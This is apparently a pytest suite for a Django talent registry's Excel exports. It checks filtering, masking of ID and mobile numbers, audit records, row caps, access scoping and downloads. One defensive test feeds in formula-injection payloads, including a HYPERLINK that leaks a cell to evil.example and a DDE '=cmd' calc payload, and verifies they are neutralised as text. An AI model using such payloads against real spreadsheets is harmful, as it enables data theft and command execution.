"""Excel exports of the registry lists: the list's rows for its filter, masked and safe to open.

Workbooks are read back with openpyxl, as a clerk's spreadsheet program would read them.
Header assertions that are not about the language ask for English explicitly.
"""

import datetime
import re
from collections.abc import Callable
from io import BytesIO
from operator import itemgetter
from pathlib import Path
from urllib.parse import quote, urlencode

import pytest
from django.urls import reverse
from django.utils import timezone, translation
from openpyxl import load_workbook
from playwright.sync_api import expect
from rest_framework.test import APIClient

from talentzone.core.audit import AuditAction
from talentzone.core.choices import Role
from talentzone.core.identifiers import make_id_number
from talentzone.core.masking import mask
from talentzone.core.models import AuditRecord
from talentzone.core.spreadsheets import XLSX_CONTENT_TYPE
from talentzone.core.tests.test_browser import (  # noqa: F401 (fixtures)
    CHROMIUM,
    browser_context_args,
    browser_type_launch_args,
    registry_zone,
    sign_in,
)
from talentzone.directory.filters import TalentFilter
from talentzone.directory.models import Talent, TalentTier
from talentzone.directory.pages import ENTITIES

from .factories import (
    AgencyFactory,
    CredentialFactory,
    DepartmentFactory,
    EnterpriseFactory,
    FounderFactory,
    GridFactory,
    GridTeamFactory,
    PlatformFactory,
    StationFactory,
    TalentFactory,
    tier,
)

pytestmark = pytest.mark.django_db

ENGLISH = {"HTTP_ACCEPT_LANGUAGE": "en"}


def export_url(entity: str, **params) -> str:
    url = reverse(f"directory:{entity}-export")
    return f"{url}?{urlencode(params)}" if params else url


def api_export_url(plural: str, **params) -> str:
    url = f"/api/v1/directory/{plural}/export/"
    return f"{url}?{urlencode(params)}" if params else url


def sheet_of(response):
    assert response.status_code == 200, response.content
    assert response["Content-Type"] == XLSX_CONTENT_TYPE
    return load_workbook(BytesIO(b"".join(response.streaming_content))).active


def values(sheet) -> list[list]:
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


def column(sheet, header: str) -> list:
    """The values under `header`, header row left out."""
    rows = values(sheet)
    index = rows[0].index(header)
    return [row[index] for row in rows[1:]]


def export_records():
    """The export records of the audit trail, oldest first."""
    return list(AuditRecord.objects.filter(action=AuditAction.EXPORT).order_by("pk"))


@pytest.fixture
def office_client(client, make_user):
    client.force_login(make_user(Role.OFFICE_ADMIN))
    return client


def test_the_talent_export_holds_exactly_the_rows_the_search_finds_with_numbers_masked(
    office_client,
):
    found = TalentFactory(name="林晓峰", phone="13905931234")
    also_found = TalentFactory(name="林晓雯")
    TalentFactory(name="陈思远")
    sheet = sheet_of(office_client.get(export_url("talent", q="林晓"), **ENGLISH))

    assert column(sheet, "Record ID") == [also_found.pk, found.pk]
    assert column(sheet, "Full name") == ["林晓雯", "林晓峰"]
    assert column(sheet, "Mobile") == ["138****1234", "139****1234"]
    assert column(sheet, "ID number") == [mask(also_found.id_number), mask(found.id_number)]
    every_value = {str(value) for row in values(sheet) for value in row}
    assert found.id_number not in every_value and "13905931234" not in every_value


def test_a_person_who_may_change_the_record_still_gets_the_numbers_masked(client, make_user):
    acme = EnterpriseFactory()
    talent = TalentFactory(employer=acme)
    user = make_user(Role.ENTERPRISE_HR, enterprise=acme)
    assert user.has_perm("directory.change_talent", talent)
    client.force_login(user)
    sheet = sheet_of(client.get(export_url("talent"), **ENGLISH))
    assert column(sheet, "ID number") == [mask(talent.id_number)]


@pytest.mark.parametrize(
    ("name", "skills"),
    [
        ('=HYPERLINK("http://x.cn","点")', "+1"),
        ("-2", '=HYPERLINK("http://evil.example/?leak="&A1,"点我")'),
        ("@SUM(A1:A9)", "-2"),
        ("=cmd|' /C calc'!A0", "\t=1+1"),
    ],
)
def test_formula_like_names_and_skills_come_back_as_text_with_a_leading_quote(
    office_client, name, skills
):
    TalentFactory(name=name, skills=skills)
    sheet = sheet_of(office_client.get(export_url("talent"), **ENGLISH))
    header = [cell.value for cell in sheet[1]]
    name_cell = sheet.cell(row=2, column=header.index("Full name") + 1)
    skills_cell = sheet.cell(row=2, column=header.index("Skills") + 1)
    assert (name_cell.value, name_cell.data_type) == ("'" + name, "s")
    assert (skills_cell.value, skills_cell.data_type) == ("'" + skills, "s")
    formulas = [cell for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
    assert formulas == []


def test_numbers_stay_numbers(office_client):
    EnterpriseFactory(employees=250)
    sheet = sheet_of(office_client.get(export_url("enterprise"), **ENGLISH))
    header = [cell.value for cell in sheet[1]]
    employees = sheet.cell(row=2, column=header.index("Employees") + 1)
    record_id = sheet.cell(row=2, column=1)
    assert (employees.value, employees.data_type) == (250, "n")
    assert record_id.data_type == "n"


def test_choices_read_as_labels_dates_as_dates_and_related_records_by_name(office_client):
    acme = EnterpriseFactory(name="宁德时代新能源科技股份有限公司")
    TalentFactory(employer=acme, education="doctorate", arrival_date=datetime.date(2021, 7, 5))
    sheet = sheet_of(office_client.get(export_url("talent"), **ENGLISH))
    header = [cell.value for cell in sheet[1]]
    row = {name: sheet.cell(row=2, column=index + 1) for index, name in enumerate(header)}
    assert row["Employer"].value == "宁德时代新能源科技股份有限公司"
    assert row["Education"].value == "Doctorate"
    assert row["Gender"].value == "Male"
    assert row["Tier"].value == str(tier())
    arrived = row["Arrived in the zone on"]
    assert arrived.is_date and arrived.number_format == "yyyy-mm-dd"
    assert arrived.value.date() == datetime.date(2021, 7, 5)


def test_booleans_read_as_yes_and_no(office_client):
    EnterpriseFactory(above_scale=True, high_tech=False)
    sheet = sheet_of(office_client.get(export_url("enterprise"), **ENGLISH))
    assert column(sheet, "Above designated size") == ["Yes"]
    assert column(sheet, "High-tech enterprise") == ["No"]


def test_the_headers_are_the_lists_columns_plus_the_record_id_in_chinese_by_default(
    office_client,
):
    TalentFactory()
    header = [cell.value for cell in sheet_of(office_client.get(export_url("talent")))[1]]
    with translation.override("zh-hans"):
        expected = [translation.gettext("Record ID"), "姓名", "性别", "学历"]
    assert header[:4] == expected
    assert "身份证号码" in header and "手机号码" in header


def test_the_export_follows_the_lists_sort(office_client):
    for name in ("乙", "甲", "丙"):
        TalentFactory(name=name)
    ascending = column(sheet_of(office_client.get(export_url("talent", o="name"))), "姓名")
    descending = column(sheet_of(office_client.get(export_url("talent", o="-name"))), "姓名")
    assert ascending == sorted(ascending)
    assert descending == list(reversed(ascending))


def test_a_filter_of_the_bar_narrows_the_export_as_it_narrows_the_list(office_client):
    TalentFactory(name="已离开", status="left")
    TalentFactory(name="在园")
    listed = office_client.get(reverse("directory:talent-list"), {"status": "left"})
    names = [talent.name for talent in listed.context["page"].object_list]
    sheet = sheet_of(office_client.get(export_url("talent", status="left")))
    assert column(sheet, "姓名") == names == ["已离开"]


def test_an_hr_users_export_holds_only_its_own_enterprises_people(client, make_user):
    acme = EnterpriseFactory()
    ours = [TalentFactory(employer=acme, name=f"本企业{n}") for n in range(3)]
    TalentFactory(name="别家人才")
    client.force_login(make_user(Role.ENTERPRISE_HR, enterprise=acme))
    sheet = sheet_of(client.get(export_url("talent")))
    assert sorted(column(sheet, "编号")) == sorted(talent.pk for talent in ours)


def test_a_filter_naming_a_record_outside_the_scope_exports_nothing(client, make_user):
    acme = EnterpriseFactory()
    stranger = TalentFactory()
    CredentialFactory(talent=stranger)
    client.force_login(make_user(Role.ENTERPRISE_HR, enterprise=acme))
    sheet = sheet_of(client.get(export_url("credential", talent=stranger.pk)))
    assert len(values(sheet)) == 1


def test_every_export_writes_one_audit_record_with_its_filter_and_row_count(client, make_user):
    user = make_user(Role.OFFICE_ADMIN)
    client.force_login(user)
    TalentFactory(name="林晓峰")
    TalentFactory(name="林晓雯")
    TalentFactory(name="陈思远")
    sheet_of(client.get(export_url("talent", q="林晓", o="name", page=3)))

    (record,) = export_records()
    assert record.actor == user
    assert record.detail == {
        "model": "directory.talent",
        "filter": {"q": "林晓", "o": "name"},
        "rows": 2,
    }


def test_the_api_export_has_the_same_rows_as_the_page_export_for_the_same_filter(client, make_user):
    user = make_user(Role.OFFICE_ADMIN)
    TalentFactory(name="林晓峰", status="left")
    TalentFactory(name="林晓雯")
    TalentFactory(name="林晓东", status="left")
    TalentFactory(name="陈思远", status="left")
    client.force_login(user)
    page = values(sheet_of(client.get(export_url("talent", q="林晓", status="left"))))
    api = APIClient()
    api.force_authenticate(user)
    response = api.get(api_export_url("talents", q="林晓", status="left"))
    assert values(sheet_of(response)) == page
    assert len(page) == 3
    assert len(export_records()) == 2


def test_the_api_export_answers_an_unreadable_filter_with_400(make_user):
    api = APIClient()
    api.force_authenticate(make_user(Role.OFFICE_ADMIN))
    response = api.get(api_export_url("talents", arrived_after="2026-13-01"))
    assert response.status_code == 400
    assert "arrived_after" in response.json()


def test_an_export_over_the_cap_goes_back_to_the_list_saying_why_and_writes_no_file(
    office_client, settings
):
    settings.TALENTZONE_EXPORT_MAX_ROWS = 2
    for _ in range(3):
        TalentFactory(name="林晓峰")
    response = office_client.get(export_url("talent", q="林晓"), **ENGLISH)
    assert response.status_code == 302
    assert response["Location"] == f"{reverse('directory:talent-list')}?q={quote('林晓')}"
    page = office_client.get(response["Location"], **ENGLISH).content.decode()
    assert "This filter selects 3 records, more than the 2 an export may hold." in page
    assert export_records() == []


def test_an_export_at_the_cap_is_written(office_client, settings):
    settings.TALENTZONE_EXPORT_MAX_ROWS = 2
    TalentFactory()
    TalentFactory()
    assert len(values(sheet_of(office_client.get(export_url("talent"))))) == 3


def test_an_api_export_over_the_cap_answers_400_saying_why(make_user, settings):
    settings.TALENTZONE_EXPORT_MAX_ROWS = 1
    TalentFactory()
    TalentFactory()
    api = APIClient()
    api.force_authenticate(make_user(Role.OFFICE_ADMIN))
    response = api.get(api_export_url("talents"), HTTP_ACCEPT_LANGUAGE="en")
    assert response.status_code == 400
    assert response.json() == {
        "detail": "This filter selects 2 records, more than the 1 an export may hold. "
        "Narrow the filter and export again."
    }
    assert export_records() == []


def test_an_unreadable_filter_goes_back_to_the_list_which_shows_the_error(office_client):
    response = office_client.get(export_url("talent", arrived_after="2026-13-01"))
    assert response.status_code == 302
    assert response["Location"].startswith(reverse("directory:talent-list"))
    assert export_records() == []


def test_the_file_is_named_after_the_list_and_the_day_with_an_ascii_fallback(office_client):
    response = office_client.get(export_url("gridteam"))
    today = timezone.localdate().isoformat()
    assert response["Content-Disposition"] == (
        f'attachment; filename="grid-teams-{today}.xlsx"; '
        f"filename*=UTF-8''{quote('网格服务队')}-{today}.xlsx"
    )


def test_a_visitor_is_asked_to_sign_in_and_the_api_answers_403(client):
    TalentFactory()
    response = client.get(export_url("talent"))
    assert response.status_code == 302
    assert response["Location"].startswith(reverse("login"))
    assert APIClient().get(api_export_url("talents")).status_code == 403
    assert export_records() == []


def test_the_list_page_offers_an_export_button_that_sends_the_filter_form(office_client):
    body = office_client.get(reverse("directory:talent-list"), {"q": "林"}).content.decode()
    start = body.index('<form id="filter-form"')
    form = body[start : body.index("</form>", start)]
    assert f'formaction="{export_url("talent")}"' in form
    assert 'data-testid="export-button"' in form


def test_an_htmx_export_request_sends_the_browser_to_download_the_file(office_client):
    url = export_url("talent", q="林晓", o="name")
    response = office_client.get(url, HTTP_HX_REQUEST="true", HTTP_HX_TARGET="results")
    assert response["HX-Redirect"] == url
    assert export_records() == []


def make_tier() -> TalentTier:
    return TalentTier.objects.create(
        code="export-tier", name="导出测试层级", rank=99, level="district"
    )


RECORD_MAKERS: dict[str, Callable[[], object]] = {
    "talent": TalentFactory,
    "enterprise": EnterpriseFactory,
    "credential": CredentialFactory,
    "platform": PlatformFactory,
    "venture": lambda: FounderFactory().venture,
    "agency": AgencyFactory,
    "station": StationFactory,
    "grid": GridFactory,
    "gridteam": lambda: GridTeamFactory(department=DepartmentFactory()),
    "department": DepartmentFactory,
    "talenttier": make_tier,
}


def test_there_is_a_record_maker_for_every_registry_list():
    assert set(RECORD_MAKERS) == {entity.name for entity in ENTITIES}


@pytest.mark.parametrize("entity", ENTITIES, ids=lambda entity: entity.name)
def test_every_registry_list_exports_on_the_page_and_through_the_api(client, make_user, entity):
    user = make_user(Role.OFFICE_ADMIN)
    record = RECORD_MAKERS[entity.name]()
    client.force_login(user)
    page = values(sheet_of(client.get(export_url(entity.name), **ENGLISH)))
    assert page[0][0] == "Record ID"
    assert len(page[0]) >= len(entity.columns) + 1
    assert record.pk in [row[0] for row in page[1:]]
    assert len(page) == entity.model.objects.count() + 1

    api = APIClient()
    api.force_authenticate(user)
    response = api.get(api_export_url(entity.path), HTTP_ACCEPT_LANGUAGE="en")
    by_id = itemgetter(0)
    assert sorted(values(sheet_of(response))[1:], key=by_id) == sorted(page[1:], key=by_id)


def test_a_talent_exports_only_themselves(client, make_user):
    user = make_user(Role.TALENT)
    me = TalentFactory(user=user)
    TalentFactory()
    client.force_login(user)
    assert column(sheet_of(client.get(export_url("talent"))), "编号") == [me.pk]


def test_a_talent_made_with_a_real_id_number_is_masked_to_its_first_and_last_four(office_client):
    number = make_id_number("350902", datetime.date(1990, 1, 2), 7, True)
    TalentFactory(id_number=number, born=datetime.date(1990, 1, 2))
    (masked,) = column(sheet_of(office_client.get(export_url("talent"))), "身份证号码")
    assert masked == number[:4] + "*" * 10 + number[-4:]
    assert Talent.objects.count() == 1


def test_an_id_number_in_the_filter_is_masked_in_the_audit_trail(office_client):
    talent = TalentFactory()
    spaced = f"{talent.id_number[:6]} {talent.id_number[6:]}"
    for params in ({"id_number": talent.id_number}, {"q": spaced}, {"q": f"林 {talent.phone}"}):
        sheet_of(office_client.get(export_url("talent", **params)))
    filters = [record.detail["filter"] for record in export_records()]
    assert filters == [
        {"id_number": mask(talent.id_number)},
        {"q": mask(talent.id_number)},
        {"q": f"林 {mask(talent.phone)}"},
    ]
    assert talent.id_number not in str(filters) and talent.phone not in str(filters)


@pytest.mark.browser
@pytest.mark.django_db(transaction=True)
@pytest.mark.skipif(not Path(CHROMIUM).exists(), reason=f"{CHROMIUM} missing: `make browser`")
@pytest.mark.usefixtures("registry_zone")
def test_in_a_browser_the_export_button_downloads_what_the_filtered_list_shows(
    live_server, page, tmp_path
):
    """The filter bar filters through htmx: the button must still export the filter in use."""
    keyword = Talent.objects.order_by("pk").first().name[:1]  # a surname: several people
    found = TalentFilter({"q": keyword}, queryset=Talent.objects.all()).qs
    expected = sorted(found.values_list("pk", flat=True))
    assert 1 < len(expected) < Talent.objects.count()
    sign_in(page, live_server, "office")
    page.goto(f"{live_server.url}{reverse('directory:talent-list')}")
    page.fill("#id_q", keyword)
    page.get_by_test_id("export-button").wait_for()
    page.locator("#filter-form button[type=submit]").first.click()
    expect(page).to_have_url(re.compile(r"\?q="))
    with page.expect_download() as download:
        page.get_by_test_id("export-button").click()
    saved = tmp_path / download.value.suggested_filename
    download.value.save_as(saved)
    assert saved.name == f"人才-{timezone.localdate().isoformat()}.xlsx"
    sheet = load_workbook(saved).active
    assert sorted(row[0] for row in values(sheet)[1:]) == expected
